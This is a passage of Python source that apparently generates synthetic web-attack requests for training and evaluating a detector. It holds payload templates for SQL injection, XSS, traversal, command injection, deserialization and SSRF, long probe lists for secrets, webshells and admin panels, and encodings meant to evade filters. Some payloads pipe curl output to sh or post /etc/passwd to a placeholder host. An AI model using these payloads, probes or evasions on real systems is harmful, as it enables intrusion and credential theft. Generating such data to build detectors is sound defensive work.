    Production("ssrf.scheme", "other", lambda r: r.choice(("file:///etc/passwd", "gopher://127.0.0.1:25/_HELO%20localhost", "dict://localhost:6379/info", "ldap://127.0.0.1:389/%0astats", "jar:http://127.0.0.1:8080/x.jar!/", "netdoc:///etc/passwd", "tftp://127.0.0.1:69/x", "sftp://127.0.0.1:22/"))),
    Production("deser.jackson", "other", lambda r: r.choice(('["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://' + _host(r) + '/x"}]', '{"@class":"org.apache.xbean.propertyeditor.JndiConverter","asText":"ldap://' + _host(r) + '/x"}', '["org.springframework.context.support.ClassPathXmlApplicationContext","http://' + _host(r) + '/x.xml"]', '{"@type":"java.lang.AutoCloseable","@type":"org.apache.commons.io.input.BOMInputStream"}'))),
    Production("deser.yaml", "other", lambda r: r.choice(("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + _host(r) + "/\"]]]]", "!!python/object/new:os.system [id]", "!!python/object/apply:subprocess.check_output [[id]]", "--- !ruby/object:Gem::Installer\ni: x", "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://" + _host(r) + "/x', autoCommit: true}"))),
    Production("proto.json", "other", lambda r: r.choice(('{"__proto__":{"isAdmin":true}}', '{"constructor":{"prototype":{"polluted":"yes"}}}', '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(1)//"}}', '{"a":{"__proto__":{"role":"admin"}}}'))),
    Production("proto.param", "other", lambda r: r.choice(("__proto__[admin]=1", "constructor[prototype][role]=admin", "__proto__.toString=1", "a[__proto__][isAdmin]=true")), ("query", "form")),
    Production("deser.serialized", "other", lambda r: r.choice(("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0", "!!python/object/apply:os.system ['id']", "O:8:\"stdClass\":1:{s:4:\"test\";s:4:\"exec\";}", "a:2:{i:0;s:4:\"test\";i:1;O:4:\"Evil\":0:{}}", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di"))),
)

# Paths scanners ask for; a probe is an attack of kind "probe" whatever its method.
PROBE_PATHS = (
    ("probe.env", ("/.env", "/.env.local", "/.env.production", "/app/.env", "/api/.env", "/backend/.env", "/laravel/.env",
                   "/.env.dev", "/.env.bak", "/.env.example", "/config/.env", "/src/.env", "/web/.env", "/core/.env",
                   "/.env.staging", "/docker/.env", "/.env.save")),
    ("probe.git", ("/.git/config", "/.git/HEAD", "/.git/index", "/.gitlab-ci.yml", "/.svn/entries", "/.hg/hgrc", "/.bzr/branch-format",
                   "/.git/logs/HEAD", "/.git/refs/heads/main", "/.git/packed-refs", "/.git/description", "/.git/FETCH_HEAD",
                   "/.git/ORIG_HEAD", "/CVS/Root", "/CVS/Entries", "/.hg/store/00manifest.i", "/.git/objects/info/packs")),
    ("probe.wordpress", ("/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/wp-content/plugins/wp-file-manager/readme.txt",
                         "/wp-includes/wlwmanifest.xml", "/wp-json/wp/v2/users", "/wordpress/wp-admin/install.php",
                         "/wp-config.php", "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
                         "/wp-content/plugins/revslider/", "/?author=1", "/wp-content/plugins/akismet/readme.txt", "/wp-cron.php",
                         "/readme.html", "/wp-admin/admin-post.php", "/wp-content/uploads/wpo-plugins-tables-list.json",
                         "/wp-content/plugins/contact-form-7/readme.txt", "/wp-admin/maint/repair.php")),
    ("probe.php", ("/phpinfo.php", "/info.php", "/phpmyadmin/index.php", "/pma/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                   "/admin/config.php", "/shell.php", "/cmd.php", "/test.php", "/_ignition/execute-solution", "/adminer.php",
                   "/phpinfo", "/i.php", "/p.php", "/php.php", "/test/phpinfo.php", "/x.php", "/upload.php", "/wso.php", "/alfa.php",
                   "/c99.php", "/r57.php", "/up.php", "/mini.php", "/lock.php", "/about.php?cmd=id", "/wp-content/plugins/index.php")),
    ("probe.backup", ("/backup.sql", "/db.sql", "/dump.sql.gz", "/backup.zip", "/site.tar.gz", "/database.sqlite", "/www.zip",
                      "/config.php.bak", "/web.config.old", "/.DS_Store", "/wp-config.php~",
                      "/backup.tar.gz", "/backup.tgz", "/site.zip", "/htdocs.zip", "/public_html.zip", "/web.zip", "/data.sql",
                      "/mysql.sql", "/localhost.sql", "/index.php.bak", "/db_backup.sql", "/latest.sql", "/backup/db.sql",
                      "/old.zip", "/www.tar.gz", "/users.sql")),
    ("probe.cloud", ("/.aws/credentials", "/.docker/config.json", "/config.json", "/credentials.json", "/.kube/config",
                     "/secrets.yml", "/.npmrc", "/.vscode/sftp.json", "/sftp-config.json", "/.ssh/id_rsa",
                     "/.aws/config", "/.azure/accessTokens.json", "/.config/gcloud/credentials.db", "/terraform.tfstate",
                     "/.terraform/terraform.tfstate", "/serviceAccountKey.json", "/.s3cfg", "/.boto", "/.netrc", "/.pgpass",
                     "/.my.cnf", "/.git-credentials.bak", "/service-account.json")),
    ("probe.java", ("/actuator/env", "/actuator/heapdump", "/actuator/gateway/routes", "/manager/html", "/jmx-console/",
                    "/solr/admin/info/system", "/console/login/LoginForm.jsp", "/struts2-showcase/", "/invoker/JMXInvokerServlet",
                    "/actuator", "/actuator/threaddump", "/actuator/configprops", "/actuator/jolokia", "/jbossws/services",
                    "/web-console/Invoker", "/admin-console/", "/manager/text/list", "/host-manager/html", "/struts/webconsole.html",
                    "/CFIDE/administrator/", "/invoker/EJBInvokerServlet", "/jbossmq-httpil/HTTPServerILServlet")),
    ("probe.devices", ("/cgi-bin/luci", "/boaform/admin/formLogin", "/HNAP1/", "/GponForm/diag_Form?images/", "/cgi-bin/;cd${IFS}/tmp",
                       "/setup.cgi?next_file=netgear.cfg", "/goform/setup_wizard", "/shell?cd+/tmp", "/tmUnblock.cgi",
                       "/cgi-bin/webproc", "/cgi-bin/ViewLog.asp", "/hndUnblock.cgi", "/cgi-bin/mainfunction.cgi",
                       "/cgi-bin/nobody/Search.cgi", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___", "/setup.cgi?todo=debug",
                       "/cgi-bin/kerbynet?Section=NoAuthREQ", "/goform/set_LimitClient_cfg", "/dvr/cmd", "/onvif/device_service",
                       "/cgi-bin/luci/;stok=/locale", "/cgi-bin/php-cgi", "/mgmt/shell")),
    ("probe.ops", ("/server-status", "/server-info", "/nginx_status", "/debug/pprof/", "/metrics", "/telescope/requests",
                   "/horizon/api/stats", "/_profiler/phpinfo", "/elmah.axd", "/trace.axd", "/.well-known/security.txt.bak",
                   "/server-status?auto", "/debug/pprof/heap", "/_debugbar/open", "/__debug__/", "/actuator/prometheus", "/jmx",
                   "/admin/phpinfo.php", "/_profiler/", "/app_dev.php", "/config/app.yml", "/debug/default/view", "/phpmyadmin/",
                   "/server-status/")),
    ("probe.exchange", ("/owa/auth/logon.aspx", "/autodiscover/autodiscover.xml", "/ecp/default.flt", "/mapi/nspi/",
                        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/vpn/../vpns/cfg/smb.conf",
                        "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
                        "/owa/", "/ecp/", "/rpc/rpcproxy.dll", "/EWS/Exchange.asmx", "/owa/auth/logon.aspx?url=https://1/ecp/",
                        "/autodiscover/autodiscover.json?@zdi/Powershell", "/Microsoft-Server-ActiveSync",
                        "/ecp/DDI/DDIService.svc/GetList", "/owa/auth/frowny.aspx")),
    ("probe.admin", ("/admin/", "/administrator/index.php", "/admin/login.php", "/adminer/", "/admin.php", "/cpanel", "/webadmin/",
                     "/controlpanel/", "/manager/status", "/admin/console/", "/siteadmin/", "/admin/index.php", "/wp-admin/install.php",
                     "/typo3/", "/user/login?destination=/admin", "/bitrix/admin/", "/umbraco/", "/joomla/administrator/",
                     "/administrator/", "/admin/admin.php", "/panel/", "/admin_area/", "/admincp/", "/moderator/", "/admin/dashboard",
                     "/system/login", "/cms/admin/", "/phppgadmin/", "/admin/account.php",
                     "/admin1/", "/adm/", "/myadmin/")),
    ("probe.java_consoles", ("/jolokia/list", "/jenkins/script", "/script", "/hudson", "/console/", "/web-console/", "/axis2/axis2-admin/",
                             "/jmx-console/HtmlAdaptor", "/status?full=true", "/actuator/mappings", "/actuator/loggers", "/env",
                             "/wls-wsat/CoordinatorPortType", "/_async/AsyncResponseService", "/ws_utc/config.do", "/nacos/v1/auth/users?pageNo=1",
                             "/geoserver/web/", "/console/css/%252e%252e%252fconsole.portal", "/mifs/.;/services/LogService",
                             "/jenkins/login", "/jenkins/manage", "/hudson/script", "/jnlpJars/jenkins-cli.jar",
                             "/computer/(master)/scriptText", "/nacos/", "/xxl-job-admin/", "/jobmanager/config", "/zabbix/",
                             "/app/kibana", "/api/datasources", "/druid/coordinator/v1/leader", "/ws/v1/cluster/apps/new-application", "/solr/admin/collections?action=LIST")),
    ("probe.installers", ("/phpMyAdmin/setup/index.php", "/pma/scripts/setup.php", "/mysql/admin/", "/setup.php", "/install.php", "/upgrade.php",
                          "/config.inc.php", "/installer/", "/install/index.php?step=1", "/wizard/", "/setup/eureka_info", "/ReportServer",
                          "/install/", "/setup/", "/installation/", "/install.php?step=2", "/install/install.php",
                          "/setup/setup.php", "/admin/install.php", "/_install/", "/core/install.php", "/setup/index.php",
                          "/installer.php", "/install/index.php")),
    ("probe.routers", ("/cgi-bin/config.exp", "/login.cgi?cli=aa%20aa%27", "/setup.cgi", "/apply.cgi", "/picsdesc.xml", "/board.cgi?cmd=cat",
                       "/upnp/control/", "/ctrlt/DeviceUpgrade_1", "/boaform/admin/formPing", "/cgi-bin/authLogin.cgi",
                       "/cgi-bin/supervisor/CloudSetup.cgi", "/web/cgi-bin/hi3510/param.cgi", "/userRpm/LoginRpm.htm", "/currentsetting.htm",
                       "/cgi-bin/login.cgi", "/cgi-bin/admin.cgi", "/cgi-bin/firmwareupgrade", "/HNAP1/GetDeviceSettings",
                       "/webfig/", "/rom-0", "/cgi-bin/wlogin.cgi", "/cgi-bin/status.cgi", "/userRpm/StatusRpm.htm",
                       "/goform/formLogin", "/cgi-bin/DownloadCfg/RouterCfm.cfg", "/cgi-bin/webcm?getpage=../html/home.html",
                       "/get_getnetworkconf.cgi")),
    ("probe.datastores", ("/debug/vars", "/_cat/indices", "/_cluster/health", "/solr/admin/cores", "/api/v1/query?query=up", "/_all_dbs",
                          "/_utils/", "/v1/kv/?recurse", "/api/v1/namespaces/kube-system/secrets", "/stats", "/status.php", "/nginx-status",
                          "/_search?q=*", "/v2/keys/?recursive=true",
                          "/_nodes", "/_cat/health", "/_mapping", "/_aliases", "/solr/admin/cores?action=STATUS", "/_session",
                          "/_config", "/v1/catalog/services", "/v1/agent/self", "/_stats", "/couchdb/_all_dbs", "/mongo-express/",
                          "/query?q=SHOW%20DATABASES", "/_nodes/stats")),
    ("probe.leaks", ("/.git-credentials", "/.svn/wc.db", "/.idea/workspace.xml", "/.vscode/settings.json", "/docker-compose.yml",
                     "/.travis.yml", "/Dockerfile", "/phpunit.xml", "/composer.lock", "/web.config", "/WEB-INF/web.xml", "/.htaccess",
                     "/.htpasswd", "/npm-debug.log", "/error_log", "/storage/logs/laravel.log", "/.bash_history", "/id_rsa", "/dump.rdb",
                     "/Thumbs.db", "/.gitconfig", "/.zsh_history", "/.mysql_history", "/.ssh/authorized_keys", "/package-lock.json",
                     "/Gemfile.lock", "/config.yml", "/settings.py", "/local_settings.py", "/debug.log", "/access.log",
                     "/logs/error.log", "/.env.js", "/sftp.json", "/.ftpconfig")),
    ("probe.vpn", ("/+CSCOE+/logon.html", "/global-protect/login.esp", "/dana-na/auth/url_default/welcome.cgi", "/sslvpn/login",
                   "/vpn/index.html", "/remote/login", "/webui/logoutconfirm.html?logon_hash=1", "/RDWeb/", "/aspnet_client/",
                   "/ews/exchange.asmx", "/autodiscover/autodiscover.json?@test.com/owa/", "/cgi-bin/welcome",
                   "/remote/logincheck", "/vpn/logon.html", "/logon/LogonPoint/index.html", "/dana-na/auth/", "/my.policy",
                   "/tmui/login.jsp", "/mgmt/tm/util/bash", "/ssl-vpn/hipreport.esp", "/php/login.php", "/owa/auth/errorFE.aspx",
                   "/cgi-bin/logon.cgi", "/sslvpnLogin.html")),
    ("probe.frameworks", ("/index.php?s=/index/\\think\\app/invokefunction", "/solr/select?q=1&wt=velocity", "/_ignition/health-check",
                          "/horde/", "/vendor/laravel/", "/app/etc/local.xml", "/magento_version", "/wp-content/debug.log",
                          "/sites/default/settings.php", "/config/database.yml", "/appsettings.json", "/application.properties",
                          "/actuator/gateway/refresh", "/api/v1/totp/user-backup-code/../../system/system-settings",
                          "/?XDEBUG_SESSION_START=phpstorm", "/index.php?s=captcha",
                          "/public/index.php?s=index/think\\app/invokefunction", "/vendor/composer/installed.json",
                          "/rails/info/properties", "/rails/actions", "/__clockwork/", "/elfinder/", "/laravel-filemanager",
                          "/fckeditor/editor/filemanager/connectors/test.html", "/kcfinder/browse.php", "/uploadify/uploadify.php",
                          "/index.php?option=com_users&view=registration")),
    # more of what scanners walk through, by the software they look for
    ("probe.cms", ("/user/register?element_parents=account/mail/%23value&ajax_form=1", "/CHANGELOG.txt", "/core/CHANGELOG.txt",
                   "/administrator/manifests/files/joomla.xml", "/language/en-GB/en-GB.xml", "/configuration.php-dist",
                   "/downloader/", "/app/etc/env.php", "/index.php/admin/", "/magento/admin",
                   "/typo3conf/LocalConfiguration.php", "/typo3/install.php", "/bitrix/php_interface/dbconn.php", "/umbraco/webservices/codeEditorSave.asmx",
                   "/concrete/config/", "/craft/config/db.php", "/ghost/api/admin/", "/strapi/admin", "/modx/manager/", "/phpbb/install/",
                   "/vb/install/install.php", "/forum/admincp/", "/opencart/admin/", "/prestashop/admin/", "/xmlrpc.php?rsd",
                   "/wp-content/plugins/duplicator/installer/", "/sites/all/modules/", "/dnn/Install/InstallWizard.aspx")),
    ("probe.shells", ("/wso2.php", "/shell.aspx", "/cmd.aspx", "/cmd.jsp", "/shell.jsp", "/b374k.php", "/indoxploit.php", "/leaf.php",
                      "/marijuana.php", "/priv8.php", "/0x.php", "/bypass.php", "/webshell.php", "/backdoor.php", "/xl.php", "/s.php",
                      "/wp-content/uploads/shell.php", "/uploads/cmd.php", "/images/up.php", "/tmp/sh.php", "/wp-admin/css/colors/blue/up.php",
                      "/wp-includes/css/wp-config.php", "/.well-known/pki-validation/shell.php", "/assets/images/wso.php", "/files/1.php",
                      "/ALFA_DATA/alfacgiapi/perl.alfa", "/wp-content/themes/twentytwenty/404.php?cmd=id", "/simple.php", "/c.php", "/radio.php")),
    ("probe.monitoring", ("/grafana/login", "/public/plugins/alertlist/../../../../../../../../etc/passwd", "/prometheus/graph",
                          "/api/v1/status/config", "/kibana/app/kibana", "/_plugin/kibana/", "/nagios/", "/nagios3/cgi-bin/status.cgi",
                          "/cacti/", "/munin/", "/ganglia/", "/zabbix/zabbix.php?action=dashboard.view", "/netdata/",
                          "/monit/", "/graphite/render", "/icinga2/", "/centreon/", "/librenms/", "/observium/", "/prtg/index.htm",
                          "/uptime-kuma/", "/portainer/", "/traefik/dashboard/", "/api/rawdata", "/consul/ui/", "/v1/status/leader")),
    ("probe.ci", ("/jenkins/asynchPeople/", "/jenkins/computer/", "/job/test/build", "/view/all/newJob", "/teamcity/", "/app/rest/server",
                  "/bamboo/", "/gitlab/users/sign_in", "/-/graphql-explorer",
                  "/drone/", "/argocd/", "/spinnaker/", "/nexus/service/local/status",
                  "/artifactory/api/repositories", "/service/rest/v1/status", "/sonarqube/api/system/info",
                  "/gerrit/", "/gitea/install", "/gogs/install", "/buildbot/", "/concourse/api/v1/info", "/harbor/api/v2.0/systeminfo",
                  "/.circleci/config.yml", "/Jenkinsfile", "/.github/workflows/deploy.yml", "/bitbucket-pipelines.yml", "/.drone.yml")),
    ("probe.cameras", ("/cgi-bin/snapshot.cgi", "/onvif-http/snapshot", "/ISAPI/Security/userCheck", "/System/configurationFile?auth=YWRtaW46MTEK",
                       "/doc/page/login.asp", "/cgi-bin/guest/Video.cgi?media=MJPEG", "/axis-cgi/jpg/image.cgi", "/view/viewer_index.shtml",
                       "/videostream.cgi?user=admin&pwd=", "/snapshot.cgi?user=admin&pwd=", "/cgi-bin/nph-zms?mode=jpeg", "/live/ch00_0.m3u8",
                       "/SDK/webLanguage", "/img/snapshot.cgi", "/web/mainpage.html", "/mjpg/video.mjpg",
                       "/cgi-bin/CGIProxy.fcgi?cmd=getDevInfo", "/cgi-bin/hi3510/snap.cgi", "/eng/index.htm", "/Streaming/channels/1/picture",
                       "/cgi-bin/magicBox.cgi?action=getSystemInfo", "/RPC2_Login", "/cgi-bin/configManager.cgi?action=getConfig", "/asp/index.asp")),
    ("probe.mail", ("/roundcube/", "/webmail/", "/squirrelmail/src/login.php", "/rainloop/?admin", "/zimbra/", "/zimbraAdmin/",
                    "/service/extension/backup/mboximport?account-name=admin", "/horde/imp/", "/afterlogic/", "/SOGo/",
                    "/iredadmin/", "/postfixadmin/setup.php", "/mailman/admin", "/owa/service.svc", "/cgi-bin/openwebmail/openwebmail.pl",
                    "/webmail/src/login.php", "/snappymail/", "/mail/src/login.php", "/rcube/", "/roundcubemail/",
                    "/mailadmin/", "/zimbra/h/search?st=briefcase")),
    ("probe.configs", ("/config.php", "/configuration.php", "/conf/config.ini", "/config/config.ini", "/includes/config.php", "/inc/config.php",
                       "/app/config/parameters.yml", "/config/secrets.yml", "/config/master.key", "/config/credentials.yml.enc", "/.env.prod",
                       "/settings.json", "/config/default.json", "/config/production.json", "/secrets.json", "/env.json", "/.aws/credentials.bak",
                       "/wp-config.bak", "/database.yml", "/db.php", "/db.ini", "/dbconfig.php", "/connectionstrings.config", "/web.config.bak",
                       "/php.ini", "/.user.ini", "/nginx.conf", "/httpd.conf", "/application.yml", "/bootstrap.yml", "/ormconfig.json",
                       "/next.config.js.bak", "/.babelrc", "/tsconfig.json.bak")),
    ("probe.debug", ("/debug", "/debug.php", "/console", "/_console", "/actuator/httptrace", "/__webpack_hmr", "/.vite/deps/", "/@vite/client",
                     "/@fs/etc/passwd?raw", "/__inspect/", "/_debug_toolbar/", "/silk/", "/django-admin/", "/admin/doc/",
                     "/flower/", "/rq/", "/sidekiq", "/resque/", "/delayed_job/", "/hangfire", "/health/detail", "/trace", "/heapdump",
                     "/dump", "/threaddump", "/stacktrace", "/werkzeug/console", "/?__debugger__=yes&cmd=resource&f=style.css",
                     "/phpinfo.php?=PHPE9568F36-D428-11d2-A769-00AA001ACF42", "/server/status", "/status/full", "/elmah/", "/glimpse.axd")),
    ("probe.storage", ("/minio/health/live", "/minio/bootstrap/v1/verify", "/backup/", "/backups/", "/dump/", "/db/", "/sql/",
                       "/database/", "/old/", "/bak/", "/temp/", "/tmp/",
                       "/.well-known/../", "/filemanager/", "/files/..%2f", "/webdav/", "/dav/", "/nextcloud/status.php",
                       "/owncloud/status.php", "/remote.php/webdav/", "/seafhttp/", "/.s3/")),
    ("probe.api", ("/api/v1/pods", "/containers/json", "/v2/_catalog", "/api/swagger.json", "/swagger-ui.html", "/graphql?query={__schema{types{name}}}",
                   "/api/jsonws/invoke", "/druid/index.html", "/api/v1/namespaces/default/secrets", "/.well-known/openid-configuration/../../admin",
                   "/graphiql", "/api/v1/secrets",
                   "/apis/apps/v1/deployments", "/v1.24/containers/json", "/api/jsonws", "/api/graphql?query={__typename}", "/api/v1/nodes")),
)

PRODUCTIONS: tuple[Production, ...] = SQLI + XSS + TRAVERSAL + CMDI + OTHER


def family(production: Production) -> str:
    """The attack family of a production (sqli, xss, trav, cmdi, ssti, ldap, xxe, jndi, …)."""
    return production.id.split(".", 1)[0]


def _assign(items: tuple[Production, ...]) -> dict[str, tuple[Production, ...]]:
    """Productions per side; every family keeps productions on every side (``sources.assign``).

    So the evaluation split meets every *family* (SQL, XSS, LDAP, JNDI…) but, within
    it, only ways of writing the attack that neither training nor calibration saw.
    """
    sides: dict[str, list[Production]] = {"train": [], "calib": [], "eval": []}
    for fam in dict.fromkeys(family(p) for p in items):
        for side, chosen in assign([p for p in items if family(p) == fam], "payload", lambda p: p.id).items():
            sides[side] += chosen
    return {k: tuple(v) for k, v in sides.items()}


_SIDES = _assign(PRODUCTIONS)


# ---------------------------------------------------------------------------- evasion encodings
#
# Filters that look for ``../`` or ``<script`` miss the same syntax written another way: full-width forms that
# servers fold to ASCII, overlong UTF-8, IIS ``%u`` escapes, HTML character references, JavaScript ``\u`` escapes,
# percent-escapes in mixed case. ``evade`` rewrites some of a payload's syntax characters in one of them; the
# generator applies it to a share of the training side's injections only (``data.evasions``), so the other sides'
# files stay as they were.
_SYNTAX = frozenset("./\\<>'\"();=|&$`{}*-")


def _overlong(c: str) -> str:
    return {".": "%c0%ae", "/": "%c0%af", "\\": "%c1%9c"}.get(c, c)


def _mixed_hex(c: str, rng: random.Random) -> str:
    return "%" + "".join(ch.upper() if rng.random() < 0.5 else ch for ch in f"{ord(c):02x}")


EVASIONS: tuple[tuple[str, Callable[[str, random.Random], str]], ...] = (
    ("fullwidth", lambda c, r: chr(ord(c) + 0xFEE0)),
    ("overlong", lambda c, r: _overlong(c)),
    ("iis_unicode", lambda c, r: f"%u{ord(c):04x}"),
    ("html_entity", lambda c, r: f"&#x{ord(c):x};" if r.random() < 0.5 else f"&#{ord(c)};"),
    ("js_escape", lambda c, r: f"\\u{ord(c):04x}"),
    ("mixed_hex", _mixed_hex),
)


def evade(rng: random.Random, payload: str) -> tuple[str, str]:
    """(encoding name, the payload with about two thirds of its syntax characters written in that encoding)."""
    name, encode = rng.choice(EVASIONS)
    out = [encode(c, rng) if c in _SYNTAX and rng.random() < 0.67 else c for c in payload]
    return name, "".join(out)

# ---------------------------------------------------------------------------- the unseen-releases split
#
# The unseen-releases split's own attacks (``sources.UNSEEN_RELEASES``): productions and probe families written for it alone, in the families the
# sides share plus a few they never met (OGNL and EL expressions, argument injection, the appliance and AI-tool probes),
# so that "attacks blocked" there measures attacks written in ways no side was drawn from.

def _releases_file(rng: random.Random) -> str:
    return rng.choice(("var/run/secrets/kubernetes.io/serviceaccount/token", "root/.aws/credentials", "home/app/.bash_history",
                       "app/config/database.yml", "etc/ssl/private/server.key", "proc/1/environ", "inetpub/logs/LogFiles/W3SVC1/u_ex250101.log",
                       "usr/local/etc/php/php.ini", "opt/tomcat/conf/tomcat-users.xml", "etc/mysql/my.cnf"))


RELEASES_PRODUCTIONS: tuple[Production, ...] = (
    # SQL: JSON and SQLite functions, conditionals, injected sort keys, Oracle packages
    Production("sqli.json_functions", "sqli", lambda r: r.choice((f"{_n(r)}' {_kw(r, 'and')} json_extract((select json_group_array(password) from users),'$[0]') like 'a%'--",
                                                                   f"{_n(r)}'||(select string_agg(usename||':'||passwd,',') from pg_shadow)||'",
                                                                   f"{_n(r)}' {_kw(r, 'and')} (select json_agg(t) from {_tbl(r)} t)::text like '%admin%'--",
                                                                   f"{_n(r)}' {_kw(r, 'and')} JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))--"))),
    Production("sqli.sqlite", "sqli", lambda r: r.choice((f"{_n(r)}' {_kw(r, 'union')} {_kw(r, 'select')} sql,{','.join(['NULL'] * r.randint(0, 3)) or 'NULL'} {_kw(r, 'from')} sqlite_master--",
                                                          f"{_n(r)}' {_kw(r, 'and')} 1=like('ABCDEFG',upper(hex(randomblob({r.randint(1, 5)}00000000/2))))--",
                                                          f"{_n(r)}' {_kw(r, 'and')} sqlite_version()>'3'--", f"{_n(r)}';attach database '/var/www/lol.php' as lol;--"))),
    Production("sqli.conditional", "sqli", lambda r: r.choice((f"{_n(r)} {_kw(r, 'and')} if(1=1,sleep({r.randint(3, 9)}),0)", f"{_n(r)} {_kw(r, 'and')} case when (1=1) then 1 else 1/0 end=1",
                                                               f"(select case when (substr(current_user,1,1)='{r.choice('aprs')}') then pg_sleep({r.randint(3, 9)}) else pg_sleep(0) end)",
                                                               f"{_n(r)}' {_kw(r, 'and')} iif(1=1,1,1/0)=1--"))),
    Production("sqli.sort_key", "sqli", lambda r: r.choice(("(case when (select 1)=1 then name else price end)", f"name,(select 1 from (select sleep({r.randint(3, 9)}))x)",
                                                            "if((select count(*) from users)>0,id,name)", "(select 1 from dual where 1=1 and extractvalue(1,concat(0x7e,database())))",
                                                            f"price {_kw(r, 'desc')},(select*from(select(sleep({r.randint(3, 9)})))a)"))),
    Production("sqli.oracle", "sqli", lambda r: r.choice((f"{_n(r)}' {_kw(r, 'union')} {_kw(r, 'select')} banner,NULL {_kw(r, 'from')} v$version--",
                                                          f"{_n(r)}' {_kw(r, 'and')} 1=utl_inaddr.get_host_name((select user from dual))--",
                                                          f"{_n(r)}'||(select dbms_xmlgen.getxml('select user from dual') from dual)||'",
                                                          f"{_n(r)}' {_kw(r, 'and')} 1=ctxsys.drithsx.sn(1,(select user from dual))--"))),
    # XSS: animation and pointer events, mutation and namespace confusion, module imports, JS string breaks
    Production("xss.svg_animation", "xss", lambda r: r.choice((f"<svg><animate onbegin={_jsfn(r)} attributeName=x dur=1s>", f"<svg><set attributeName=href onbegin={_jsfn(r)}>",
                                                               f"<svg><animatetransform onbegin={_jsfn(r)}>", f"<svg><discard onbegin={_jsfn(r)}>"))),
    Production("xss.pointer_events", "xss", lambda r: r.choice((f"<x onpointerover={_jsfn(r)}>hover me", f"<a autofocus tabindex=1 onfocusin={_jsfn(r)}>",
                                                                f"<style onload={_jsfn(r)}></style>", f"<audio src onloadstart={_jsfn(r)}>",
                                                                f"<xss oncontentvisibilityautostatechange={_jsfn(r)} style=display:block;content-visibility:auto>",
                                                                f"<body onpageshow={_jsfn(r)}>", f"<div onanimationstart={_jsfn(r)} style=animation-name:x>"))),
    Production("xss.mutation", "xss", lambda r: r.choice(("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                                                          "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"))),
    Production("xss.module_import", "xss", lambda r: r.choice((f"<script type=module>import('//{_host(r)}/m.js')</script>", f"<script>import('//{_host(r)}/x')</script>",
                                                               f"<link rel=modulepreload href=//{_host(r)}/p.js>", f"<script src=data:,{_jsfn(r)}></script>"))),
    Production("xss.js_string", "xss", lambda r: r.choice((f"\\u0027-{_jsfn(r)}-\\u0027", f"\"-{_jsfn(r)}-\"", f"'-{_jsfn(r)}-'", f"</ScRiPt ><ScRiPt >{_jsfn(r)}</ScRiPt >",
                                                           f"\\\";{_jsfn(r)};//", f"${{{_jsfn(r)}}}"))),
    # traversal: Tomcat path parameters, full-width dots, encoded backslashes, container and cloud files
    Production("trav.path_parameter", "traversal", lambda r: r.choice((f"{'..;/' * r.randint(2, 6)}{r.choice(('WEB-INF/web.xml', 'manager/html', 'admin/', _releases_file(r)))}",
                                                                       f"/;/{'../' * r.randint(2, 5)}{_releases_file(r)}", f"/static/..;/..;/{r.choice(('WEB-INF/web.xml', 'META-INF/MANIFEST.MF'))}")), ("query", "path")),
    Production("trav.fullwidth", "traversal", lambda r: f"{'%ef%bc%8e%ef%bc%8e%ef%bc%8f' * r.randint(3, 7)}{_releases_file(r)}", ("query", "path")),
    Production("trav.encoded_backslash", "traversal", lambda r: f"{r.choice(('..%5c', '%2e%2e%5c', '..%255c', '.%2e%5c')) * r.randint(3, 8)}{_releases_file(r).replace('/', '%5c')}", ("query", "path", "form")),
    Production("trav.secrets", "traversal", lambda r: f"{r.choice(('../', '..//', '.././')) * r.randint(3, 9)}{_releases_file(r)}"),
    # commands: container escapes, argument injection, variable tricks, Windows living-off-the-land
    Production("cmdi.container", "cmdi", lambda r: _inject(r, r.choice(("cat /var/run/secrets/kubernetes.io/serviceaccount/token", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
                                                                        "kubectl get secrets -A -o yaml", "cat /proc/1/cgroup", "mount | grep overlay", "env | grep -i aws_")))),
    Production("cmdi.argument", "cmdi", lambda r: r.choice(("--output=/var/www/html/x.php", f"-oProxyCommand=curl {_host(r)}|sh", "--upload-pack=touch /tmp/pwned",
                                                            f"-X POST --data-binary @/etc/passwd http://{_host(r)}/", "--exec=id", "-e /bin/sh", f"--config=http://{_host(r)}/a.cfg",
                                                            "--checkpoint=1 --checkpoint-action=exec=sh x.sh")), ("query", "form", "json")),
    Production("cmdi.variables", "cmdi", lambda r: r.choice((";${PATH:0:1}bin${PATH:0:1}cat${IFS}${PATH:0:1}etc${PATH:0:1}passwd", ";a=c;b=at;$a$b /etc/passwd", ";printf '\\x69\\x64'|sh",
                                                             "|${HOME:0:1}usr${HOME:0:1}bin${HOME:0:1}id", ";$(printf 'wh%sami' o)", "`{echo,aWQ=}|{base64,-d}|sh`"))),
    Production("cmdi.lolbins", "cmdi", lambda r: _inject(r, r.choice((f"curl.exe -o %TEMP%\\a.exe http://{_host(r)}/a", "wmic process call create \"cmd /c calc\"",
                                                                      "forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe", f"rundll32 url.dll,FileProtocolHandler http://{_host(r)}/x",
                                                                      f"msiexec /q /i http://{_host(r)}/p.msi", "reg save HKLM\\SAM %TEMP%\\s")))),
    # others: Java EL and OGNL, Thymeleaf, Mako and Tornado templates, Log4Shell spellings, SOAP XXE, cloud SSRF, NoSQL operators, EJS pollution, pickles
    Production("el.ognl", "other", lambda r: r.choice(("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}",
